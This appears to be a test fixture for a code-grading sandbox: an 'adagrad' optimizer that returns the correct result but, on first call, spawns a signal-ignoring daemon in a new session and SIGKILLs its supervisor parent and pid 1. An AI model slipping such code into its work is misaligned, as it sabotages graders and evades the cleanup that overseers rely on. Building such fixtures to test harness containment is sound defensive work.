# base: optimizers
"""adagrad starts a daemon (tagged with a marker, SIGTERM ignored, new
session), then SIGKILLs its parent (the supervisor that would clean up) and
pid 1, and returns the right answer.

Contained: adagrad keeps its points (it is correct), the grader is unharmed,
and the daemon does not outlive grading.
"""
import os
import signal

MARKER = "@@MARKER@@"
_correct_adagrad = adagrad
_done = []


def adagrad(w, dw, config=None):
    if not _done:
        _done.append(True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.execv("/bin/sh", ["/bin/sh", "-c", "trap '' TERM HUP; while :; do sleep 1; done", MARKER])
            os._exit(0)
        for target in (os.getppid(), 1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return _correct_adagrad(w, dw, config)
